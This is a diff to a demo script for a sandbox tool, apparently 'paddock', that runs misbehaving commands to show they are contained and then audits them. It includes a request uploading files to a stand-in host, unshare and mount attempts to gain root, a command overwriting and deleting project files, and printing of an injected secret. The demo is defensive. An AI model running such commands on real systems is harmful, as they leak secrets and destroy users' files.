@@ -26,4 +26,7 @@ try: u.urlopen("http://other.example/upload", b"your files")
 except urllib.error.HTTPError as e: print(e.code, e.read().decode())'
 show "It wants to be root" run -- sh -c 'unshare -Ur id; mount -t tmpfs none /tmp; grep -E "^(CapEff|CapBnd|NoNewPrivs|Seccomp):" /proc/self/status'
 show "It changes your files: in a copy, and you look first" run --workspace "$(dirname "$0")/../examples:copy" --discard -- sh -c 'echo hacked > hello.py; rm -f *.toml; ls'
+show "It prints a secret that it was given" run --secret TOKEN=open-sesame-1 -- sh -c 'echo "$TOKEN"; echo "$TOKEN" | base64'
+show "All of this was recorded: what was stopped" audit show --since 1m --kind limit --kind denial
+show "And nobody has changed it since" audit verify
 printf '\n%sWhat this host can enforce: %s/paddock doctor      Prove it: %s/paddock verify%s\n' "$bold" "$build" "$build" "$off"
